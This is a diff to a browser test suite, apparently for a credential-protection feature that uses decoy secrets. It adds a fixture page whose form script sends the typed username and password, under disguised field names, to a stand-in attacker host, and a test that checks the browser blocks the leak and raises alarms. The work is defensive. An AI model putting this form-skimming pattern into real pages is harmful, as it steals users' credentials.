@@ -21,6 +21,14 @@ const pages: Record<string, (at: { evil: string; port: string }) => string> = {
       const r = await fetch('/api', {method: 'POST', headers: {'content-type': 'application/json'},
         body: JSON.stringify({login: f.user.value, password: f.pass.value, keep: true})});
       answer.textContent = await r.text(); }</script>`,
+  '/own-names': ({ evil }) => `<form id="f"><input name="user">${password}${button}</form><script>
+    f.onsubmit = async (event) => { event.preventDefault();
+      const send = (to, body) => fetch(to, {method: 'POST', mode: 'no-cors', body: new URLSearchParams(body)});
+      await send('${evil}/x', {q7: f.user.value}).catch(() => {});
+      await send('/api', {q7: f.user.value});
+      await send('/said', {user: f.user.value});
+      if (f.pass.value) await send('/api', {q8: f.pass.value}).catch(() => {});
+      document.title = 'sent'; }</script>`,
   '/copying': () => `<form method="post" action="/session" onsubmit="this.email.value = this.user.value">
     <input name="user"><input type="hidden" name="email">${button}</form>`,
   '/first': () => `<form method="post" action="/second"><input name="user">${button}</form>`,
@@ -135,6 +143,35 @@ test('a form that says no method is one that its page sends; nothing is typed in
   );
   await go('/get');
   expect((await form())?.method).toBe('GET');
+});
+
+test('a script tells this site alone the account under any name, and so neither a machine nor a password [vault.sandbox.decoy.bound-request]', async () => {
+  const told = async () => {
+    await click();
+    await expect.poll(() => posts().filter(({ url }) => url === '/said')).toHaveLength(1);
+    return posts().map(({ url, body }) => [url, ...new URLSearchParams(body).entries()].flat());
+  };
+  await go('/own-names');
+  await fill('[name=user]', [secretOf(name, { isName: true, isAccount: true })]);
+  await fill('[name=pass]', [secretOf(word)]);
+  expect(await told()).toEqual([
+    ['/api', 'q7', name],
+    ['/said', 'user', name],
+  ]);
+  // Another site hears nothing; under another name than passwords have, theirs is a decoy that has gone astray.
+  const scope = { kind: 'scope', url: `${evil.url}/x` };
+  await expect
+    .poll(() => browser.alarms)
+    .toMatchObject([scope, { kind: 'decoy', method: 'POST', url: `${site.url}/api` }]);
+  expect(JSON.stringify(evil.received)).not.toMatch(/lovelace/);
+
+  [site.received.length, browser.alarms.length] = [0, 0];
+  await go('/own-names');
+  await fill('[name=user]', [secretOf('db7.internal.example', { isName: true })]);
+  const [[, , host] = [], [, , asField] = []] = await told();
+  expect(host).not.toBe('db7.internal.example');
+  expect(asField).toBe('db7.internal.example');
+  expect(browser.alarms).toMatchObject([scope]);
 });
 
 test('a name that was sent alone goes along with the password on the next page', async () => {
